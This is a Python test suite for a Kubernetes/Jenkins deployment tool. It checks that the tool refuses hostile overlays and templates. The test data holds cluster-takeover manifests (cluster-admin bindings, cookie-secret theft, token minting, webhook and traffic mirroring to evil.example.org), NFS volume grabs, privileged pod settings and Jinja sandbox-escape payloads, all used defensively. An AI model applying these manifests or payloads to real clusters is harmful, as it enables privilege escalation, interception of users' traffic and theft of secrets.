@pytest.mark.parametrize("name", ["heps.yaml", ".hadolint.yaml", "app-recipes/app/.dockerignore"])
def test_files_read_by_name_are_not_symlinks_out(heps: Any, repo: Path, name: str) -> None:
    """Files read by their fixed name (settings, lint config, .dockerignore) are confined
    like any named path: a symlink to a host file is never read."""
    (repo / name).unlink(missing_ok=True)
    (repo / name).symlink_to(repo.parent / OUTSIDE)
    line = one_line(heps(repo, "lint"), name.rsplit("/", 1)[-1], "outside")
    assert "host secret" not in line


def test_promotion_edits_only_the_overlays_own_files(repo: Path) -> None:
    """testbed/kustomization.yaml as a symlink to production's: promoting testbed would
    rewrite production. Refused before anything is read or written."""
    testbed = repo / "k8s-overlays" / "overlays" / "testbed" / "kustomization.yaml"
    production = repo / "k8s-overlays" / "overlays" / "production" / "kustomization.yaml"
    before = production.read_text()
    testbed.unlink()
    testbed.symlink_to(Path("../production/kustomization.yaml"))
    with pytest.raises(
        ConfigError, match=r"overlays/testbed/kustomization.yaml: file of .*, outside"
    ):
        edit_overlay(repo, load(repo), "testbed", [], {})
    assert production.read_text() == before


# --- review: what needs a maintainer's eye --------------------------------------------


def _git(repo: Path, *args: str) -> None:
    subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@t", *args],
        cwd=repo,
        check=True,
        capture_output=True,
    )


def test_review_flags_what_a_security_reviewer_must_see(heps: Any, repo: Path) -> None:
    shutil.copytree(REPO_ROOT / "jenkins", repo / "jenkins")
    _git(repo, "init", "-q", "-b", "main")
    _git(repo, "add", "-A")
    _git(repo, "commit", "-qm", "base")
    (repo / "heps.yaml").write_text((repo / "heps.yaml").read_text() + "\n# changed\n")
    (repo / "jenkins" / "Jenkinsfile.main").write_text("// changed\n")
    write_recipe(
        repo,
        "app",
        simple_recipe("app", version="1.0.1", build={"context": "../.."}),
        Dockerfile="# syntax=evil.example.org/frontend\nFROM busybox:1.36\n",
    )
    (repo / "app-recipes" / "app" / "inside-link").symlink_to("Dockerfile")
    webhook = TAKEOVER["mutating-webhook"][0].replace(
        "metadata: {name: evil}",
        "metadata:\n  name: evil\n  annotations:\n"
        "    heps.ihep.ac.cn/policy-exception: 'kind: the vendor says we need it'",
    )
    add_to_overlay(repo, webhook)
    values = repo / "k8s-overlays" / "overlays" / "testbed" / "hub-values.yaml"
    values.write_text(values.read_text() + "# changed\n")
    result = heps(repo, "review", "--base", "HEAD")
    text = result.out
    assert "## Needs a maintainer's eye" in text, result.text
    for fragment in (
        "changes the pipeline's settings (heps.yaml)",
        "changes the Jenkins jobs or pipelines",
        "build.context: the whole repository is outside the recipe's folder",
        "symlinks app-recipes/app/inside-link",
        "a '# syntax=' directive names a builder frontend image",
        "policy exception: MutatingWebhookConfiguration evil",
        "changes the hub's values (where its client secret and tokens go): "
        "k8s-overlays/overlays/testbed/hub-values.yaml",
    ):
        assert fragment in text, text


# --- every path-taking field goes through the one confinement function ----------------


def _path_fields(node: dict[str, Any], prefix: str = "") -> Iterator[tuple[str, dict[str, Any]]]:
    for key, sub in node.get("properties", {}).items():
        yield prefix + key, sub
        yield from _path_fields(sub, f"{prefix}{key}.")
        if isinstance(sub.get("items"), dict):
            yield from _path_fields(sub["items"], f"{prefix}{key}[].")


CONFINED = {
    "recipe": {"build.context", "build.dockerfile", "smoke.structure"},
    "settings": {"recipes_dir", "build.ca_bundle", "gitops.overlays_dir"},
}
PATH_WORDS = re.compile(r"\b(path|file|folder|directory)\b")


@pytest.mark.parametrize("schema", sorted(CONFINED))
def test_every_path_field_of_the_schemas_is_confined(schema: str) -> None:
    """A field whose description speaks of a file or folder must be marked
    `format: repository-path` and be one this suite proves confined; a new one fails here
    until it goes through heps.core.paths.confine and gets its hostile case."""
    text = resources.files("heps").joinpath(f"schemas/{schema}.schema.json").read_text()
    found = {}
    for name, sub in _path_fields(json.loads(text)):
        description = str(sub.get("description", "")).lower()
        constrained = "url" in description or "pattern" in sub  # a URL, a name, a version
        if sub.get("type") == "string" and not constrained and PATH_WORDS.search(description):
            found[name] = sub
    marked = {name for name, sub in found.items() if sub.get("format") == "repository-path"}
    assert set(found) == marked, f"path fields not marked repository-path: {set(found) - marked}"
    assert marked == CONFINED[schema]


@pytest.mark.parametrize(
    "report",
    [
        '{"recipes": [{"name": "app", "status": "failed", "failed_stage": "build", "error": ""}]}',
        '{"recipes": [{"name": "app"}]}',
        '{"recipes": [{"name": "app", "status": "built", "smoke": [{"kind": 1}]}]}',
        '{"recipes": ["app"]}',
        '{"recipes": {"name": "app"}}',
        "[1, 2]",
        '{"recipes": [{"name": "app", "status": "built", "smoke": "passed"}]}',
    ],
)
def test_review_reads_a_report_from_another_job_as_data(
    heps: Any, repo: Path, tmp_path: Path, report: str
) -> None:
    """The run report reaches review from another job: a forged one is one line (exit 2)
    or, when well formed, shown as data; never a traceback."""
    _git(repo, "init", "-q", "-b", "main")
    _git(repo, "add", "-A")
    _git(repo, "commit", "-qm", "base")
    write_recipe(repo, "app", simple_recipe("app", version="1.0.1"), Dockerfile="FROM busybox:1\n")
    forged = tmp_path / "forged.json"
    forged.write_text(report)
    result = heps(repo, "review", "--base", "HEAD", "--report", str(forged))
    assert "Traceback" not in result.text
    if result.code == 2:
        one_line(result, f"--report {forged}: ")
    else:
        assert "| app | 1.0.1 | changed |" in result.out, result.text


@pytest.mark.parametrize("key", ["../evil", "..", "a/b"])
def test_platform_writes_config_map_keys_only_as_plain_file_names(
    repo: Path, tmp_path: Path, key: str
) -> None:
    """`heps platform up` writes the hub-config ConfigMap's keys as files: a key is a
    file name of Kubernetes' key grammar, never a path (kustomize does not check it)."""
    from heps.platform import overlay as platform_overlay

    kustomization = repo / "k8s-overlays" / "base" / "kustomization.yaml"
    text = kustomization.read_text()
    kustomization.write_text(
        text.replace(
            "    files: [hub/values.yaml]\n",
            f"    files: [hub/values.yaml]\n    literals: ['{key}=x']\n",
        )
    )
    state = tmp_path / "state" / "platform"
    with pytest.raises(ConfigError, match=f"data key '{re.escape(key)}' is not a ConfigMap key"):
        platform_overlay.render(load(repo), "testbed", state / "config", state / "policy.yaml")
    assert not (tmp_path / "state").exists() or not any((tmp_path / "state").rglob("*"))


COMPLIANT_JOB = """apiVersion: batch/v1
kind: Job
metadata: {name: ok}
spec:
  template:
    metadata: {annotations: {}}
    spec:
      restartPolicy: Never
      securityContext: {runAsNonRoot: true, seccompProfile: {type: RuntimeDefault}}
      volumes: [{name: scratch, emptyDir: {}}]
      initContainers: []
      containers:
        - name: main
          image: busybox:1.36
          resources: {requests: {cpu: 1m, memory: 1Mi}, limits: {cpu: 1m, memory: 1Mi}}
          securityContext:
            allowPrivilegeEscalation: false
            capabilities: {drop: [ALL]}
"""
TRICKS = {
    "runAsNonRoot": (
        "capabilities: {drop: [ALL]}",
        "capabilities: {drop: [ALL]}\n            runAsNonRoot: false",
    ),
    "runAsNonRoot ": (
        "capabilities: {drop: [ALL]}",
        "capabilities: {drop: [ALL]}\n            runAsUser: 0",
    ),
    "seccomp": (
        "capabilities: {drop: [ALL]}",
        "capabilities: {drop: [ALL]}\n            seccompProfile: {type: Unconfined}",
    ),
    "capabilities": ("{drop: [ALL]}", "{drop: [ALL], add: [CAP_SYS_ADMIN]}"),
    "capabilities ": ("{drop: [ALL]}", "{drop: [all]}"),
    "hostPort": (
        "          securityContext:\n",
        "          ports: [{containerPort: 80, hostPort: 80}]\n          securityContext:\n",
    ),
    "procMount": (
        "capabilities: {drop: [ALL]}",
        "capabilities: {drop: [ALL]}\n            procMount: Unmasked",
    ),
    "sysctls": (
        "seccompProfile: {type: RuntimeDefault}}",
        "seccompProfile: {type: RuntimeDefault}, sysctls: [{name: kernel.msgmax, value: '1'}]}",
    ),
    "volumeTypes": ("emptyDir: {}", "nfs: {server: nfs.example.org, path: /}"),
    "privileged": (
        "initContainers: []",
        "initContainers: [{name: i, image: 'busybox:1.36', securityContext: "
        "{privileged: true, allowPrivilegeEscalation: true}, resources: "
        "{requests: {cpu: 1m, memory: 1Mi}, limits: {cpu: 1m, memory: 1Mi}}}]",
    ),
    "seLinux": (
        "capabilities: {drop: [ALL]}",
        "capabilities: {drop: [ALL]}\n            seLinuxOptions: {type: spc_t}",
    ),
    "appArmor": (
        "capabilities: {drop: [ALL]}",
        "capabilities: {drop: [ALL]}\n            appArmorProfile: {type: Unconfined}",
    ),
    "appArmor ": (
        "annotations: {}",
        "annotations: {container.apparmor.security.beta.kubernetes.io/main: unconfined}",
    ),
    "hostIPC": ("restartPolicy: Never", "restartPolicy: Never\n      hostIPC: true"),
}


def test_the_compliant_job_passes(repo: Path) -> None:
    from heps.cluster import reconcile

    add_object(repo, COMPLIANT_JOB)
    assert any(m.ref == "Job heps/ok" for m in reconcile.check(load(repo), "testbed"))


@pytest.mark.parametrize("rule", sorted(TRICKS))
def test_each_restricted_rule_is_checked_at_pod_and_container_level(
    heps: Any, repo: Path, rule: str
) -> None:
    old, new = TRICKS[rule]
    assert old in COMPLIANT_JOB
    add_object(repo, COMPLIANT_JOB.replace(old, new, 1))
    one_line(
        heps(repo, "reconcile", "--overlay", "testbed", "--dry-run"), f"restricted: {rule.strip()})"
    )


def test_kustomize_that_does_not_finish_is_one_line(
    heps: Any, repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from heps.cluster import manifests

    monkeypatch.setattr(manifests, "RENDER_TIMEOUT", 0.001)
    line = one_line(heps(repo, "reconcile", "--overlay", "testbed", "--dry-run"), "kustomize")
    assert "did not finish in 0.001 s" in line


RBAC = {
    "cluster-admin": "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\n"
    "metadata: {name: mine}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, "
    "name: cluster-admin}\nsubjects: [{kind: ServiceAccount, name: hub, namespace: heps}]\n",
    "wildcard": "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\n"
    "metadata: {name: all}\nrules: [{apiGroups: ['*'], resources: ['*'], verbs: [get]}]\n",
    "escalate": "apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\n"
    "metadata: {name: esc}\nrules: [{apiGroups: [''], resources: [roles], verbs: [escalate]}]\n",
    "system-group": "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\n"
    "metadata: {name: anon}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, "
    "name: hub}\nsubjects: [{kind: Group, name: 'system:unauthenticated'}]\n",
}


@pytest.mark.parametrize("case", sorted(RBAC))
def test_an_overlay_grants_itself_no_cluster(heps: Any, repo: Path, case: str) -> None:
    add_object(repo, RBAC[case])
    one_line(heps(repo, "reconcile", "--overlay", "testbed", "--dry-run"), "project policy: rbac)")


def add_to_overlay(repo: Path, text: str, patch: str = "") -> None:
    """`text` as a new file of the testbed overlay (the base sets `namespace: heps`; an
    overlay's own resource is not rewritten), and `patch` as one of its patches."""
    testbed = repo / "k8s-overlays" / "overlays" / "testbed"
    (testbed / "extra.yaml").write_text(text)
    kustomization = testbed / "kustomization.yaml"
    text = kustomization.read_text()
    text = text.replace("  - ../../base\n", "  - ../../base\n  - extra.yaml\n")
    kustomization.write_text(text.replace("patches:\n", "patches:\n" + patch))


def test_objects_stay_in_the_overlays_namespaces(heps: Any, repo: Path) -> None:
    add_to_overlay(
        repo,
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x, namespace: kube-system}\ndata: {}\n",
    )
    line = one_line(
        heps(repo, "reconcile", "--overlay", "testbed", "--dry-run"), "project policy: namespace)"
    )
    assert "namespace kube-system is reserved for the cluster" in line


RBAC_API = "apiVersion: rbac.authorization.k8s.io/v1\n"
HEPS_JOB = COMPLIANT_JOB.replace("metadata: {name: ok}", "metadata: {name: ok, namespace: heps}")
# An overlay taking over the cluster, one case per category: (objects, patch, rule, the
# object and field the line names). Each passed the policies before these rules.
_HUB_BINDING = (
    "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\n"
    "metadata: {{name: mine, namespace: heps}}\nsubjects: [{subject}]\n"
    "roleRef: {{apiGroup: rbac.authorization.k8s.io, kind: Role, name: hub}}\n"
)
TAKEOVER = {
    "reserved-namespace-declared": (
        "apiVersion: v1\nkind: Namespace\nmetadata: {name: kube-system}\n---\n"
        + HEPS_JOB.replace("namespace: heps", "namespace: kube-system"),
        "",
        "namespace",
        "Job kube-system/ok: metadata.namespace",
    ),
    "unlisted-namespace-declared": (
        "apiVersion: v1\nkind: Namespace\nmetadata:\n  name: ingress-nginx\n  labels:\n"
        "    pod-security.kubernetes.io/enforce: restricted\n---\n"
        "apiVersion: v1\nkind: ServiceAccount\n"
        "metadata: {name: ingress-nginx, namespace: ingress-nginx}\n",
        "",
        "namespace",
        "Namespace ingress-nginx: metadata.name",
    ),
    "default-namespace-declared": (
        "apiVersion: v1\nkind: Namespace\nmetadata:\n  name: default\n  labels:\n"
        "    pod-security.kubernetes.io/enforce: restricted\n",
        "",
        "namespace",
        "Namespace default: metadata.name",
    ),
    "system-role-bound": (
        RBAC_API + "kind: ClusterRoleBinding\nmetadata: {name: mine}\nroleRef: {apiGroup: "
        "rbac.authorization.k8s.io, kind: ClusterRole, name: "
        "'system:controller:clusterrole-aggregation-controller'}\n"
        "subjects: [{kind: ServiceAccount, name: hub, namespace: heps}]\n",
        "",
        "rbac",
        "ClusterRoleBinding mine: roleRef.name",
    ),
    "built-in-role-bound": (
        RBAC_API + "kind: RoleBinding\nmetadata: {name: mine, namespace: heps}\nroleRef: "
        "{apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: view}\n"
        "subjects: [{kind: ServiceAccount, name: hub, namespace: heps}]\n",
        "",
        "rbac",
        "RoleBinding heps/mine: roleRef.name",
    ),
    "aggregation-rule": (
        RBAC_API + "kind: ClusterRole\nmetadata: {name: agg}\naggregationRule:\n"
        "  clusterRoleSelectors:\n"
        "    - matchLabels: {rbac.authorization.k8s.io/aggregate-to-admin: 'true'}\n",
        "",
        "rbac",
        "ClusterRole agg: aggregationRule",
    ),
    "aggregated-into-admin": (
        RBAC_API + "kind: ClusterRole\nmetadata:\n  name: more\n  labels:\n"
        "    rbac.authorization.k8s.io/aggregate-to-edit: 'true'\n"
        "rules: [{apiGroups: [''], resources: [configmaps], verbs: [get]}]\n",
        "",
        "rbac",
        "ClusterRole more: metadata.labels.rbac.authorization.k8s.io/aggregate-to-edit",
    ),
    "powerful-resources": (
        RBAC_API + "kind: ClusterRole\nmetadata: {name: reader}\nrules: [{apiGroups: [''], "
        "resources: [secrets, pods/exec, pods/attach, nodes/proxy, serviceaccounts/token], "
        "verbs: [get, create]}]\n",
        "",
        "rbac",
        "ClusterRole reader: rules[0].resources",
    ),
    "subresource-wildcard": (
        RBAC_API + "kind: Role\nmetadata: {name: sub, namespace: heps}\nrules: [{apiGroups: "
        "[''], resources: ['pods/*'], verbs: [create]}]\n",
        "",
        "rbac",
        "Role heps/sub: rules[0].resources",
    ),
    "foreign-service-account": (
        HEPS_JOB.replace(
            "restartPolicy: Never",
            "restartPolicy: Never\n      serviceAccountName: clusterrole-aggregation-controller",
        ),
        "",
        "rbac",
        "Job heps/ok: spec.template.spec.serviceAccountName",
    ),
    "cluster-wide-pod-creation": (
        RBAC_API + "kind: ClusterRole\nmetadata: {name: runner}\nrules: [{apiGroups: [apps], "
        "resources: [daemonsets], verbs: [create]}]\n",
        "",
        "rbac",
        "ClusterRole runner: rules[0].resources",
    ),
    "cluster-wide-config-write": (
        RBAC_API + "kind: ClusterRole\nmetadata: {name: editor}\nrules: [{apiGroups: [''], "
        "resources: [configmaps], verbs: [get, update]}]\n",
        "",
        "rbac",
        "ClusterRole editor: rules[0].resources",
    ),
    "built-in-role-redefined": (
        RBAC_API
        + "kind: ClusterRole\nmetadata: {name: cluster-admin}\nrules: []\n---\n"
        + RBAC_API
        + "kind: ClusterRoleBinding\nmetadata: {name: mine}\nroleRef: {apiGroup: "
        "rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\n"
        "subjects: [{kind: ServiceAccount, name: hub, namespace: heps}]\n",
        "",
        "rbac",
        "ClusterRole cluster-admin: metadata.name",
    ),
    # the hub's role creates pods as any account of heps: no one else may hold it
    "binds-a-user": (
        _HUB_BINDING.format(
            subject="{kind: User, name: mallory, apiGroup: rbac.authorization.k8s.io}"
        ),
        "",
        "rbac",
        "RoleBinding heps/mine: subjects[0].name: binds the User mallory",
    ),
    "binds-a-foreign-account": (
        _HUB_BINDING.format(subject="{kind: ServiceAccount, name: default, namespace: evil}"),
        "",
        "rbac",
        "RoleBinding heps/mine: subjects[0].name: binds service account evil/default",
    ),
    "external-ips": (
        "apiVersion: v1\nkind: Service\nmetadata: {name: mitm, namespace: heps}\n"
        "spec: {ports: [{port: 443}], externalIPs: [10.96.0.1]}\n",
        "",
        "network",
        "Service heps/mitm: spec.externalIPs",
    ),
    "external-name": (
        "apiVersion: v1\nkind: Service\nmetadata: {name: api, namespace: heps}\n"
        "spec: {type: ExternalName, externalName: kubernetes.default.svc.cluster.local}\n",
        "",
        "network",
        "Service heps/api: spec.type",
    ),
    "ingress-snippet": (
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x, namespace: heps}\ndata: {}\n",
        "  - target: {kind: Ingress, name: jupyterhub}\n    patch: |-\n"
        "      - {op: add, path: /metadata/annotations/"
        "nginx.ingress.kubernetes.io~1server-snippet, value: 'location /x {}'}\n",
        "network",
        "Ingress heps/jupyterhub: metadata.annotations.nginx.ingress.kubernetes.io/server-snippet",
    ),
    # NetworkPolicies add up: one of the overlay's opens what the base's closes
    "network-policy-admitting-all": (
        "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: open, "
        "namespace: heps}\nspec: {podSelector: {matchLabels: {component: singleuser-server}}, "
        "policyTypes: [Ingress], ingress: [{}]}\n",
        "",
        "network",
        "NetworkPolicy heps/open: spec.ingress[0].from: no peers listed",
    ),
    "network-policy-admitting-namespaces": (
        "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: open, "
        "namespace: heps}\nspec: {podSelector: {}, ingress: [{from: [{podSelector: "
        "{matchLabels: {a: b}}, namespaceSelector: {}}]}]}\n",
        "",
        "network",
        "NetworkPolicy heps/open: spec.ingress[0].from[0]: admits more than pods of this",
    ),
    "network-policy-admitting-addresses": (
        "apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: open, "
        "namespace: heps}\nspec: {podSelector: {}, ingress: [{from: [{ipBlock: "
        "{cidr: 0.0.0.0/0}}]}]}\n",
        "",
        "network",
        "NetworkPolicy heps/open: spec.ingress[0].from[0]: admits more than pods of this",
    ),
    "ingress-canary-taking-the-hosts-traffic": (
        "apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  name: steal\n"
        "  namespace: heps\n  annotations: {nginx.ingress.kubernetes.io/canary: 'true', "
        "nginx.ingress.kubernetes.io/canary-weight: '100'}\nspec:\n  ingressClassName: nginx\n"
        "  rules: [{host: jupyter-testbed.heps.ihep.ac.cn, http: {paths: [{path: /, pathType: "
        "Prefix, backend: {service: {name: proxy-public, port: {name: http}}}}]}}]\n",
        "",
        "network",
        "Ingress heps/steal: metadata.annotations.nginx.ingress.kubernetes.io/canary:",
    ),
    "ingress-sharing-the-hub-host": (
        "apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata: {name: callback, "
        "namespace: heps}\nspec:\n  ingressClassName: nginx\n  rules: [{host: "
        "jupyter-testbed.heps.ihep.ac.cn, http: {paths: [{path: /hub/oauth_callback, pathType: "
        "Exact, backend: {service: {name: grabber, port: {number: 80}}}}]}}]\n",
        "",
        "network",
        "Ingress heps/callback: spec.rules: host jupyter-testbed.heps.ihep.ac.cn is routed by",
    ),
    "ingress-mirror": (
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x, namespace: heps}\ndata: {}\n",
        "  - target: {kind: Ingress, name: jupyterhub}\n    patch: |-\n"
        "      - {op: add, path: /metadata/annotations/"
        "nginx.ingress.kubernetes.io~1mirror-target, value: 'https://evil.example.org'}\n",
        "network",
        "Ingress heps/jupyterhub: metadata.annotations.nginx.ingress.kubernetes.io/mirror-target",
    ),
    "node-port": (
        "apiVersion: v1\nkind: Service\nmetadata: {name: out, namespace: heps}\n"
        "spec: {type: NodePort, selector: {app: x}, ports: [{port: 8081}]}\n",
        "",
        "network",
        "Service heps/out: spec.type: NodePort",
    ),
    "pod-security-pinned-to-an-old-release": (
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x, namespace: heps}\ndata: {}\n",
        "  - target: {kind: Namespace, name: heps}\n    patch: |-\n"
        "      - {op: add, path: /metadata/labels/pod-security.kubernetes.io~1enforce-version, "
        "value: v1.0}\n",
        "podSecurityAdmission",
        "Namespace heps: metadata.labels.pod-security.kubernetes.io/enforce-version: v1.0",
    ),
    "root-ca-replaced": (
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: kube-root-ca.crt, namespace: heps}\n"
        "data: {ca.crt: x}\n",
        "",
        "managed",
        "ConfigMap heps/kube-root-ca.crt: metadata.name",
    ),
    "service-account-token-minted": (
        "apiVersion: v1\nkind: Secret\nmetadata: {name: hub-token, namespace: heps, "
        "annotations: {kubernetes.io/service-account.name: hub}}\n"
        "type: kubernetes.io/service-account-token\n",
        "",
        "managed",
        "Secret heps/hub-token: type: kubernetes.io/service-account-token",
    ),
    # any pod of heps may mount any Secret of heps: the site's hub keys (cookie secret)
    "reads-the-hubs-secret": (
        "apiVersion: v1\nkind: Pod\nmetadata: {name: stats, namespace: heps}\nspec:\n"
        "  securityContext: {runAsNonRoot: true, seccompProfile: {type: RuntimeDefault}}\n"
        "  containers:\n  - name: c\n    image: busybox:1.36\n"
        "    env: [{name: C, valueFrom: {secretKeyRef: {name: hub-secret, key: cookie-secret}}}]\n"
        "    resources: {requests: {cpu: 10m, memory: 64Mi}, limits: {cpu: 10m, memory: 64Mi}}\n"
        "    securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}\n",
        "",
        "secrets",
        "Pod heps/stats: spec.containers[0].env[0]: reads the Secret hub-secret",
    ),
    # server-side apply forces conflicts: the site's cookie secret, of the author's choosing
    "replaces-the-sites-secret": (
        "apiVersion: v1\nkind: Secret\nmetadata: {name: hub-secret, namespace: heps}\n"
        "stringData: {cookie-secret: known-to-the-author}\n",
        "",
        "managed",
        "Secret heps/hub-secret: metadata.name: hub-secret is the site's",
    ),
    "control-plane": (
        "apiVersion: v1\nkind: Pod\nmetadata: {name: cp, namespace: heps}\nspec:\n"
        "  tolerations: [{operator: Exists}]\n"
        "  nodeSelector: {node-role.kubernetes.io/control-plane: ''}\n"
        "  securityContext: {runAsNonRoot: true, seccompProfile: {type: RuntimeDefault}}\n"
        "  containers:\n  - name: c\n    image: busybox:1.36\n"
        "    resources: {requests: {cpu: 10m, memory: 64Mi}, limits: {cpu: 10m, memory: 64Mi}}\n"
        "    securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}\n",
        "",
        "placement",
        "Pod heps/cp: spec.tolerations[0]: tolerates the control plane's taint",
    ),
    "mutating-webhook": (
        "apiVersion: admissionregistration.k8s.io/v1\nkind: MutatingWebhookConfiguration\n"
        "metadata: {name: evil}\nwebhooks:\n  - name: evil.example.org\n"
        "    clientConfig: {url: 'https://evil.example.org'}\n"
        "    rules: [{operations: ['*'], apiGroups: ['*'], apiVersions: ['*'], "
        "resources: ['*/*']}]\n    sideEffects: None\n    admissionReviewVersions: [v1]\n",
        "",
        "kind",
        "MutatingWebhookConfiguration evil: kind",
    ),
    "api-service": (
        "apiVersion: apiregistration.k8s.io/v1\nkind: APIService\n"
        "metadata: {name: v1beta1.metrics.k8s.io}\nspec: {group: metrics.k8s.io, version: "
        "v1beta1, service: {name: evil, namespace: heps}, groupPriorityMinimum: 100, "
        "versionPriority: 100, insecureSkipTLSVerify: true}\n",
        "",
        "kind",
        "APIService v1beta1.metrics.k8s.io: kind",
    ),
    "system-priority": (
        "apiVersion: scheduling.k8s.io/v1\nkind: PriorityClass\n"
        "metadata: {name: system-mine}\nvalue: 1000000000\nglobalDefault: true\n",
        "",
        "priority",
        "PriorityClass system-mine: metadata.name",
    ),
    "pod-security-weakened": (
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x, namespace: heps}\ndata: {}\n",
        "  - target: {kind: Namespace, name: heps}\n    patch: |-\n"
        "      - {op: replace, path: /metadata/labels/pod-security.kubernetes.io~1enforce, "
        "value: privileged}\n",
        "podSecurityAdmission",
        "Namespace heps: metadata.labels.pod-security.kubernetes.io/enforce",
    ),
}


_CLAIM = (
    "apiVersion: v1\nkind: PersistentVolumeClaim\nmetadata: {{name: grab, namespace: heps}}\n"
    "spec: {{accessModes: [ReadWriteMany], storageClassName: '', {spec}"
    "resources: {{requests: {{storage: 1Gi}}}}}}\n"
)
_VOLUME = (
    "apiVersion: v1\nkind: PersistentVolume\nmetadata: {{name: heps-grab}}\nspec: "
    "{{capacity: {{storage: 1Gi}}, accessModes: [ReadWriteMany], storageClassName: '', {source}}}\n"
    "---\n"
)
_BOUND = _CLAIM.format(spec="volumeName: heps-grab, ")
STORAGE = {  # what the overlay adds, the field refused
    "nfs-volume": (
        _VOLUME.format(source="nfs: {server: 10.0.0.5, path: /export/home}") + _BOUND,
        "PersistentVolume heps-grab: spec.nfs",
    ),
    "iscsi-volume": (
        _VOLUME.format(source="iscsi: {targetPortal: '10.0.0.5:3260', iqn: iqn.x:y, lun: 0}")
        + _BOUND,
        "PersistentVolume heps-grab: spec.iscsi",
    ),
    "clusters-volume": (
        _CLAIM.format(spec="volumeName: someone-elses, "),
        "PersistentVolumeClaim heps/grab: spec.volumeName",
    ),
    "other-namespace": (
        _CLAIM.format(
            spec="dataSourceRef: {kind: PersistentVolumeClaim, name: db, namespace: other}, "
        ),
        "PersistentVolumeClaim heps/grab: spec.dataSourceRef.namespace",
    ),
}


@pytest.mark.parametrize("case", sorted(STORAGE))
def test_an_overlay_mounts_no_storage_but_its_own(heps: Any, repo: Path, case: str) -> None:
    """A pod mounts any claim (persistentVolumeClaim is a restricted volume type), so the
    claim's volume is where the rules apply: a PersistentVolume on an NFS export or iSCSI
    target hands its files to any uid a pod picks; a claim of the cluster's volume or of
    another namespace's data takes what the overlay does not own."""
    objects, where = STORAGE[case]
    add_to_overlay(repo, objects)
    one_line(heps(repo, "reconcile", "--overlay", "testbed", "--dry-run"), where, "volumeTypes")


@pytest.mark.parametrize("namespace", ["kube-system", "default", "kube-mine"])
def test_the_platforms_namespaces_are_never_the_clusters(
    heps: Any, repo: Path, namespace: str
) -> None:
    settings = repo / "heps.yaml"
    listed = f"reconcile:\n  namespaces: [heps, {namespace}]\n"
    settings.write_text(settings.read_text().replace("reconcile:\n", listed))
    one_line(heps(repo, "reconcile", "--overlay", "testbed", "--dry-run"), "namespaces")


def test_an_overlay_renders_no_secret_of_its_own(heps: Any, repo: Path) -> None:
    """A secretGenerator named as the site's Secret: kustomize names it `hub-secret-<hash>`
    and points the hub's references there, so the hub would read the author's cookie
    secret; Secrets are the site's, made outside git (a `kind` exception shows one)."""
    add_to_overlay(repo, "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x, namespace: heps}\n")
    kustomization = repo / "k8s-overlays" / "overlays" / "testbed" / "kustomization.yaml"
    kustomization.write_text(
        kustomization.read_text()
        + "secretGenerator:\n  - name: hub-secret\n    namespace: heps\n"
        + "    literals: [cookie-secret=known-to-the-author]\n"
    )
    line = one_line(
        heps(repo, "reconcile", "--overlay", "testbed", "--dry-run"),
        "Secret heps/hub-secret-",
        "(project policy: kind)",
    )
    assert "known-to-the-author" not in line


@pytest.mark.parametrize("case", sorted(TAKEOVER))
def test_an_overlay_takes_over_no_cluster(heps: Any, repo: Path, case: str) -> None:
    """Namespaces, roles, identities, kinds and priorities that belong to the cluster:
    each refused in one line naming file, object and field, unless declared (and then
    listed for a maintainer by `heps review`, as every exception is)."""
    objects, patch, rule, where = TAKEOVER[case]
    add_to_overlay(repo, objects, patch)
    one_line(
        heps(repo, "reconcile", "--overlay", "testbed", "--dry-run"),
        where,
        f"(project policy: {rule})",
    )


@pytest.mark.parametrize(
    ("template", "why"),
    [
        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "template error"),
        ("{{ description.__class__ }}", "template error"),
        (None, "outside"),  # the template a symlink to a host file
    ],
)
def test_job_templates_are_sandboxed_and_confined(
    heps: Any, repo: Path, template: str | None, why: str
) -> None:
    """jenkins/templates/ is merge-request content rendered by `heps review` and `heps
    jenkins sync` (which holds the Jenkins token): no Python object, no host file."""
    shutil.copytree(REPO_ROOT / "jenkins", repo / "jenkins")
    folder = repo / "jenkins" / "templates" / "folder.xml.j2"
    folder.unlink()
    if template is None:
        folder.symlink_to(repo.parent / OUTSIDE)
    else:
        folder.write_text(
            f"<com.cloudbees.hudson.plugins.folder.Folder>{template}"
            "</com.cloudbees.hudson.plugins.folder.Folder>"
        )
    result = heps(repo, "jenkins", "render", "--out", "rendered")
    line = one_line(result, "jenkins/templates")
    assert why in line and "host secret" not in result.text
    assert not (repo / "rendered").exists() or not any((repo / "rendered").rglob("*.xml"))


def test_repository_cannot_send_credentials_in_clear(
    heps: Any, repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The operator names the registry (HEPS_REGISTRY); heps.yaml cannot turn its TLS off."""
    (repo / "heps.yaml").write_text("registry: {tls: false}\n")
    monkeypatch.setenv("HEPS_REGISTRY", "registry.example.org")
    one_line(heps(repo, "plan"), "heps.yaml: registry.tls: false", "in clear")
